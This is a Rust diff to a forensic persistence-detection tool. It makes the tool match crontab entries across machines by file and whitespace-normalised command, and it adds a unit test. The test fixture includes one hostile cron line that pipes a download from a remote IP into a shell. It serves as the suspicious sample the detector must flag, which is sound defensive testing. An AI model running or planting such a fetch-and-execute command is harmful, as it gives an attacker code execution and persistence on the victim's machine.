@@ -13,9 +13,23 @@ fn machine(f: &Finding) -> &str {
     &f.subject.source.evidence
 }
 
-/// The item a finding judges, as machines are compared on it.
+/// The item a finding judges, as machines are compared on it: a crontab line by its file
+/// and its command (whatever line it is on), the others by name.
 fn item(f: &Finding) -> (String, String) {
-    (f.subject.artifact.clone(), f.subject.name.to_lowercase())
+    let name = match &f.subject.command {
+        Some(command) => {
+            let file = f
+                .subject
+                .name
+                .rsplit_once(':')
+                .map_or(f.subject.name.as_str(), |(file, _)| file);
+            // (Spacing aside: `a  b` and `a b` are one command.)
+            let words: Vec<&str> = command.split_whitespace().collect();
+            format!("{file}\u{0}{}", words.join(" "))
+        }
+        None => f.subject.name.clone(),
+    };
+    (f.subject.artifact.clone(), name.to_lowercase())
 }
 
 /// Whether a finding judges a persistence item (not an event a Sigma rule matched).
@@ -37,7 +51,7 @@ fn persistence(f: &Finding) -> bool {
 ///     severity: Severity::Info, score: 0, title: format!("task {name}"), techniques: vec![],
 ///     reasons: vec![], created_by: None, time: None,
 ///     subject: Subject { artifact: "scheduled_task".into(), name: name.into(), host: None,
-///         source: Source { evidence: image.into(), ..Source::default() } },
+///         source: Source { evidence: image.into(), ..Source::default() }, command: None },
 /// };
 /// let mut case = vec![f("a", "\\Update"), f("b", "\\Update"), f("c", "\\Update"), f("c", "\\x")];
 /// foothold::judge_across(&mut case, None);
@@ -85,5 +99,59 @@ pub fn judge_across(findings: &mut [Finding], baseline: Option<&[Finding]>) {
         if added {
             f.rescore();
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::{Severity, Source, Subject};
+
+    fn cron(image: &str, line: u32, command: &str) -> Finding {
+        Finding {
+            severity: Severity::Info,
+            score: 0,
+            title: String::new(),
+            techniques: vec![],
+            reasons: vec![],
+            created_by: None,
+            time: None,
+            subject: Subject {
+                artifact: "cron_job".into(),
+                name: format!("/var/spool/cron/crontabs/root:{line}"),
+                host: None,
+                source: Source {
+                    evidence: image.into(),
+                    ..Source::default()
+                },
+                command: Some(command.into()),
+            },
+        }
+    }
+
+    #[test]
+    fn a_crontab_line_is_the_same_item_on_another_line() {
+        // The same job on three machines, on line 2, 5 and 9 (lines added above it): not
+        // rare; a job only the third machine has is.
+        let mut case = vec![
+            cron("a", 2, "/usr/local/bin/backup --all"),
+            cron("b", 5, "/usr/local/bin/backup  --all"),
+            cron("c", 9, "/usr/local/bin/backup --all"),
+            cron("c", 2, "curl -s http://203.0.113.9/x | sh"),
+        ];
+        judge_across(&mut case, None);
+        let rare: Vec<bool> = case
+            .iter()
+            .map(|f| f.reasons.iter().any(|r| r.id == "rare_in_case"))
+            .collect();
+        assert_eq!(rare, [false, false, false, true]);
+        // Against a baseline holding the backup job on another line: only the other is new.
+        let baseline = vec![cron("clean", 7, "/usr/local/bin/backup --all")];
+        judge_across(&mut case, Some(&baseline));
+        let new: Vec<bool> = case
+            .iter()
+            .map(|f| f.reasons.iter().any(|r| r.id == "not_in_baseline"))
+            .collect();
+        assert_eq!(new, [false, false, false, true]);
     }
 }
